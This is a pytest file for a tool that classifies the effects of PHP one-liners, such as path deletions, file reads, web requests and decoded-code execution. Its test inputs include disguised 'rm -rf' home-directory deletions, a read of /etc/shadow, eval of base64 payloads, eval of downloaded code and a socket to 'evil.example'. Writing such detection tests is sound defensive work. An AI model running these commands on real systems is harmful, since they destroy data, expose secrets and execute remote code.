"""PHP, read through its calls."""

from __future__ import annotations

import pytest
from support.code import deeds, one_liner

P = "/home/u/proj/"


def php(code: str) -> list[str]:
    return deeds(one_liner("php -r", code))


@pytest.mark.parametrize(
    "code",
    [
        "system('rm -rf /home/u');",
        'exec("rm -rf /home/u", $out);',
        "shell_exec('rm -rf /home/u');",
        "passthru(\"rm -rf {$_SERVER['HOME']}\");",
        "echo `rm -rf /home/u`;",
        "$f = 'system'; $f('rm -rf /home/u');",
        "call_user_func('system', 'rm -rf /home/u');",
        "call_user_func_array('system', ['rm -rf /home/u']);",
        "array_map('system', ['rm -rf /home/u']);",
        "eval(\"system('rm -rf /home/u');\");",
        "$c = 'rm -rf ' . '/home/u'; system($c);",
        "$d = getenv('HOME'); system(\"rm -rf $d\");",
        "proc_open('rm -rf /home/u', [], $p);",
        "if ($x) { echo 1; } else { system('rm -rf /home/u'); }",
        "foreach (['/home/u'] as $d) { system(\"rm -rf $d\"); }",
        "function go() { system('rm -rf /home/u'); } go();",
        "File::deleteDirectory('/home/u');",
        "/* x */ system('rm -rf /home/u'); // y",
    ],
)
def test_deletions(code: str) -> None:
    """A home that goes away is seen."""
    assert "DeletePath /home/u" in php(code)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("unlink('a');", [f"DeletePath {P}a"]),
        ("rmdir('a');", [f"DeletePath {P}a"]),
        ("array_map('unlink', glob('*.o'));", [f"DeletePath {P}*.o"]),
        ("foreach (glob('*.o') as $f) unlink($f);", [f"DeletePath {P}*.o"]),
        ("file_put_contents('a', 'x');", [f"WritePath {P}a"]),
        ("fopen('a', 'w');", [f"WritePath {P}a"]),
        ("echo file_get_contents('.env');", [f"ReadPath {P}.env"]),
        ("echo file_get_contents('https://x.y');", ["Request x.y"]),
        ("readfile('/etc/shadow');", ["ReadPath /etc/shadow"]),
        ("eval(base64_decode('ZWNobyAxOw=='));", ["RunCode decoded"]),
        ("eval(gzinflate(base64_decode($x)));", ["RunCode decoded"]),
        ("eval($x);", ["RunCode generated"]),
        ("$x('y');", ["RunCode generated"]),
        ("eval(file_get_contents('https://x.y'));", ["Request x.y", "RunCode download"]),
        ("print_r(getenv());", ["RevealSecret <<the whole environment>>"]),
        ("phpinfo();", ["RevealSecret the environment"]),
        ("$p = new PDO('sqlite::memory:'); $p->exec('DROP TABLE users');", ["RunSql users"]),
        ("DB::statement('TRUNCATE users');", ["RunSql users"]),
        ("Schema::dropIfExists('users');", ["ResetDatabase drop"]),
        ("mail('a@b.c', 'x', 'y');", ["SendMessage a@b.c"]),
        ("fsockopen('evil.example', 80);", ["SendData evil.example"]),
        (
            "$c = curl_init('https://x.y'); curl_setopt($c, CURLOPT_CUSTOMREQUEST, 'DELETE'); curl_exec($c);",
            ["Request x.y"],
        ),
    ],
)
def test_deeds(code: str, expected: list[str]) -> None:
    """Each call is the deed a command would be."""
    assert expected == php(code)


@pytest.mark.parametrize(
    "code",
    [
        "echo 'rm -rf /';",
        "// system('rm -rf /')",
        "# system('rm -rf /')\necho 1;",
        "echo phpversion(), PHP_EOL;",
        "echo json_encode(['a' => 1, 'unlink' => true]);",
        "$s = <<<'EOT'\nsystem('rm -rf /');\nEOT;\necho strlen($s);",
        "var_dump(array_filter([1, 2], fn($x) => $x > 1));",
        "$f = function ($x) { return $x; }; echo $f(1);",
        "echo ini_get('memory_limit');",
    ],
)
def test_harmless(code: str) -> None:
    """Strings and comments are data."""
    assert [] == php(code)


def test_files_have_tags(project_script) -> None:  # type: ignore[no-untyped-def]
    """Only what stands between tags is code."""
    assert "DeletePath /home/u" in deeds(
        project_script("<h1>hi</h1><?php system('rm -rf /home/u'); ?>", "a.php", "php {}")
    )
    assert [] == deeds(project_script("system('rm -rf /home/u')\n<?php echo 1; ?> unlink('/x')", "b.php", "php {}"))
